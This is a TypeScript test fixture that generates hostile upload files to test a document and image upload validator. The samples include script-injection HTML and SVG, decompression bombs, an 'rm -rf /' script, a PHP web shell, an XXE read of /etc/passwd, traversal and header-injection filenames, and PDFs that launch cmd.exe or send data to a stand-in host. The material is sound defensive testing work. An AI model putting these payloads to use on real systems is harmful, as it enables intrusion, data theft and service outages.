/**
 * Files that somebody sends who means harm, made here byte by byte: what pretends to be another kind,
 * what hides something behind a picture, what costs its reader memory or time, names that lie.
 */
import { crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { pdf } from "./pdf.ts";

export interface HostileFile {
  /** What it is, for whoever reads a failing test. */
  readonly what: string;
  readonly name: string;
  readonly mimeType: string;
  readonly content: Buffer;
  /** What the city is told where it is refused; null where it is kept, with nothing in it that acts. */
  readonly refusal: RegExp | null;
}

/** Stands in everything that may not survive a picture's being drawn anew. */
export const MARK = "hostile-mark";
const ACT = `alert("${MARK}")`;
const HTML = `<!doctype html><html><body><script>${ACT}</script><img src=x onerror='${ACT}'></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload='${ACT}'><script>${ACT}</script></svg>`;
const SCRIPT = `/* ${MARK} */ ${ACT};`;

const NOT_TAKEN = /Only PDF, JPEG, PNG and WebP files are taken/;
const DAMAGED = /damaged and could not be read/;
const TOO_MANY_PIXELS = /more than 30 million pixels/;
const BOMB_BYTES = 60_000_000;

const TYPES: Readonly<Record<string, string>> = {
  pdf: "application/pdf",
  png: "image/png",
  jpg: "image/jpeg",
  webp: "image/webp",
};

function refused(what: string, name: string, content: Buffer | string, refusal = NOT_TAKEN) {
  const mimeType = TYPES[name.split(".").at(-1) ?? ""] ?? "application/octet-stream";
  return { what, name, mimeType, content: Buffer.from(content), refusal };
}

function kept(what: string, name: string, content: Buffer, mimeType = "application/pdf") {
  return { what, name, mimeType, content, refusal: null };
}

function disguised(): HostileFile[] {
  const kinds: readonly (readonly [string, string])[] = [
    ["HTML", HTML],
    ["SVG", SVG],
    ["JavaScript", SCRIPT],
    ["HTML after a byte order mark", `\uFEFF${HTML}`],
  ];
  return kinds.flatMap(([what, content]) =>
    Object.keys(TYPES).map((ending) =>
      refused(`${what} called .${ending}`, `a.${ending}`, content),
    ),
  );
}

/** One file, packed. */
export function zip(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content, { level: 9 });
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(crc32(content), 14);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, Buffer.from(name), packed]);
}

function otherKinds(): HostileFile[] {
  const zeros = Buffer.alloc(BOMB_BYTES);
  return [
    refused("a zip bomb", "bomb.pdf", zip("[Content_Types].xml", zeros)),
    refused("a gzip bomb", "bomb.png", gzipSync(zeros)),
    refused("a document of an office", "report.docx", zip("word/document.xml", Buffer.from(HTML))),
    refused("a program for Windows", "setup.pdf.exe", "MZ\u0090\0 This program cannot be run"),
    refused("a program for Linux", "a.jpg", "\x7fELF\x02\x01\x01"),
    refused("a shell script", "a.pdf", "#!/bin/sh\nrm -rf /\n"),
    refused("PHP", "a.php.png", "<?php system($_GET['c']); ?>"),
    refused("a page of Windows", "a.hta", `<script language="VBScript">${ACT}</script>`),
    refused("a saved page", "a.pdf", `MIME-Version: 1.0\nContent-Type: text/html\n\n${HTML}`),
    refused(
      "XML with an outer entity",
      "a.png",
      `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
    ),
    refused("a GIF that is a script too", "a.jpg", `GIF89a/*${MARK}*/=1;${ACT}`),
    refused("a bitmap that is a script too", "a.png", `BM/*${MARK}*/=1;${ACT}`),
    refused("a sound in RIFF", "a.webp", Buffer.from("RIFF\x24\0\0\0WAVEfmt ", "latin1")),
    refused("a film in RIFF", "a.webp", Buffer.from("RIFF\x24\0\0\0AVI LIST", "latin1")),
    refused("a page with a PDF's mark further on", "a.pdf", `${HTML}%PDF-1.4\n%%EOF`),
    refused("HTML in UTF-16", "a.png", Buffer.from(`\uFEFF${HTML}`, "utf16le")),
    refused("nothing", "empty.pdf", ""),
  ];
}

function chunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), content]);
  const out = Buffer.alloc(body.length + 8);
  out.writeUInt32BE(content.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), body.length + 4);
  return out;
}

const PNG_MARK = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const PNG_HEAD_BYTES = 33;

function pngOf(width: number, height: number, ...rest: readonly Buffer[]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([PNG_MARK, chunk("IHDR", head), ...rest, chunk("IEND", Buffer.alloc(0))]);
}

/** The pixels of this many, all black, packed small. */
export function hugePicture(side = 30_000): Buffer {
  const line = Buffer.alloc(side * 3 + 1);
  const some = deflateSync(Buffer.concat(Array.from({ length: 100 }, () => line)), { level: 9 });
  return pngOf(side, side, chunk("IDAT", some));
}

interface Pictures {
  readonly png: Buffer;
  readonly jpeg: Buffer;
  readonly webp: Buffer;
}

async function harmless(): Promise<Pictures> {
  const picture = () =>
    sharp({ create: { width: 60, height: 40, channels: 3, background: "#2a6f4e" } }).withExif({
      IFD0: { Copyright: MARK, ImageDescription: HTML },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "16/1 3/1 0/1" },
    });
  return {
    png: await picture().png().toBuffer(),
    jpeg: await picture().jpeg().toBuffer(),
    webp: await picture().webp().toBuffer(),
  };
}

function damaged({ png, jpeg, webp }: Pictures): HostileFile[] {
  return [
    refused("a picture of 30,000 by 30,000 pixels", "huge.png", hugePicture(), TOO_MANY_PIXELS),
    refused(
      "a picture that claims two thousand million pixels a side",
      "a.png",
      pngOf(2_000_000_000, 2_000_000_000, chunk("IDAT", deflateSync(Buffer.alloc(9)))),
      DAMAGED,
    ),
    refused(
      "the head of a picture, then HTML",
      "a.png",
      Buffer.concat([png.subarray(0, PNG_HEAD_BYTES), Buffer.from(HTML)]),
      DAMAGED,
    ),
    refused(
      "the mark of a JPEG, then HTML",
      "a.jpg",
      Buffer.concat([jpeg.subarray(0, 3), Buffer.from(HTML)]),
      DAMAGED,
    ),
    refused(
      "the mark of a PNG, then a script",
      "a.png",
      Buffer.concat([PNG_MARK, Buffer.from(SCRIPT)]),
      /damaged and could not be read|Only PDF/,
    ),
    refused("a WebP cut short", "a.webp", webp.subarray(0, 30), DAMAGED),
    refused("a PNG of no size", "a.png", pngOf(0, 0), DAMAGED),
  ];
}

function withSomethingBehind({ png, jpeg, webp }: Pictures): HostileFile[] {
  const behind = (picture: Buffer, what: string) => Buffer.concat([picture, Buffer.from(what)]);
  const inPng = (...chunks: readonly Buffer[]) =>
    Buffer.concat([png.subarray(0, PNG_HEAD_BYTES), ...chunks, png.subarray(PNG_HEAD_BYTES)]);
  const comment = Buffer.from(`\xff\xfe\0${String.fromCharCode(HTML.length + 2)}${HTML}`, "latin1");
  const bomb = Buffer.concat([
    Buffer.from("a\0\x01\0\0\0", "latin1"),
    deflateSync(Buffer.alloc(BOMB_BYTES)),
  ]);
  const png_ = "image/png";
  return [
    kept("HTML behind a PNG", "a.png", behind(png, HTML), png_),
    kept("HTML behind a JPEG", "a.jpg", behind(jpeg, HTML), "image/jpeg"),
    kept("HTML behind a WebP", "a.webp", behind(webp, HTML), "image/webp"),
    kept(
      "an archive behind a PNG",
      "a.png",
      Buffer.concat([png, zip("a.html", Buffer.from(HTML))]),
      png_,
    ),
    kept(
      "a script in a PNG's text",
      "a.png",
      inPng(chunk("tEXt", Buffer.from(`a\0${HTML}`))),
      png_,
    ),
    kept("a bomb in a PNG's text", "a.png", inPng(chunk("iTXt", bomb)), png_),
    kept(
      "a script in a JPEG's comment",
      "a.jpg",
      Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
      "image/jpeg",
    ),
    kept("a place and HTML in a JPEG's EXIF", "a.jpg", jpeg, "image/jpeg"),
    kept("a place and HTML in a PNG's EXIF", "a.png", png, png_),
    kept("a place and HTML in a WebP's EXIF", "a.webp", webp, "image/webp"),
    kept("a picture said to be HTML", "a.png", png, "text/html"),
  ];
}

const LYING_NAMES: readonly string[] = [
  "../../../etc/passwd",
  "..\\..\\windows\\system32\\a.png",
  "photo\u202Egnp.exe",
  "photo.png.html",
  "photo.svg",
  ".htaccess",
  `"><img src=x onerror=alert(1)>.png`,
  "a\r\nContent-Type: text/html\r\n\r\n.png",
  "a;filename=b.html;.png",
  "CON.html",
  `${"long".repeat(200)}.png`,
];

function withActions(): HostileFile[] {
  const action = (of: string) => pdf({ catalog: `/OpenAction << ${of} >>` });
  const script = `/S /JavaScript /JS (app.alert\\("${MARK}"\\);)`;
  return [
    kept("a PDF with a script", "script.pdf", action(script)),
    kept(
      "a PDF with a script on its page",
      "page.pdf",
      pdf({ page: `/AA << /O << ${script} >> >>` }),
    ),
    kept("a PDF that starts a program", "launch.pdf", action("/S /Launch /F (cmd.exe)")),
    kept(
      "a PDF that opens an address",
      "uri.pdf",
      action("/S /URI /URI (javascript:alert\\(1\\))"),
    ),
    kept("a PDF that sends a form", "form.pdf", action("/S /SubmitForm /F (http://192.0.2.1/)")),
    kept(
      "a PDF that opens another file",
      "gotor.pdf",
      action("/S /GoToR /F (\\\\\\\\192.0.2.1\\\\a) /D [0 /Fit]"),
    ),
    kept(
      "a PDF with a file in it",
      "embedded.pdf",
      pdf({
        catalog: "/Names << /EmbeddedFiles << /Names [(a.html) 100 0 R] >> >>",
        objects: [
          `<< /Type /Filespec /F (a.html) /EF << /F 101 0 R >> >>`,
          `<< /Type /EmbeddedFile /Length ${HTML.length} >>\nstream\n${HTML}\nendstream`,
        ],
      }),
    ),
    kept(
      "a PDF with a form of XML",
      "xfa.pdf",
      pdf({ catalog: "/AcroForm << /XFA (<xdp><script>app.alert\\(1\\)</script></xdp>) >>" }),
    ),
    kept(
      "a PDF that is HTML too",
      "html.pdf",
      Buffer.concat([Buffer.from(`%PDF-1.4\n${HTML}\n`), pdf()]),
    ),
    kept(
      "a PDF with an archive behind it",
      "zip.pdf",
      Buffer.concat([pdf(), zip("a.html", Buffer.from(HTML))]),
    ),
    kept(
      "a PDF whose pages go round",
      "round.pdf",
      Buffer.from(
        "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF",
      ),
    ),
    kept(
      "a PDF that claims a million pages",
      "million.pdf",
      Buffer.from(pdf().toString("latin1").replace("/Count 1", "/Count 1000000"), "latin1"),
    ),
    kept(
      "a PDF of a page without end",
      "wide.pdf",
      Buffer.from(pdf().toString("latin1").replace("[0 0 200 200]", "[0 0 1e30 1e30]"), "latin1"),
    ),
    kept(
      "a PDF that draws without end",
      "loops.pdf",
      pdf({
        page: "/Resources << /XObject << /A 100 0 R >> >>",
        content: "/A Do ".repeat(50),
        objects: [
          "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 100 0 R >> >> /Length 30 >>\nstream\n/A Do /A Do /A Do /A Do /A Do \nendstream",
        ],
      }),
    ),
    kept("a PDF cut short", "cut.pdf", pdf().subarray(0, 120)),
  ];
}

/** All of them, the same at each call. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const pictures = await harmless();
  return [
    ...disguised(),
    ...otherKinds(),
    ...damaged(pictures),
    ...withSomethingBehind(pictures),
    ...LYING_NAMES.map((name) =>
      kept(
        `a name that lies: ${JSON.stringify(name.slice(0, 40))}`,
        name,
        pictures.png,
        "image/png",
      ),
    ),
    ...withActions(),
  ];
}
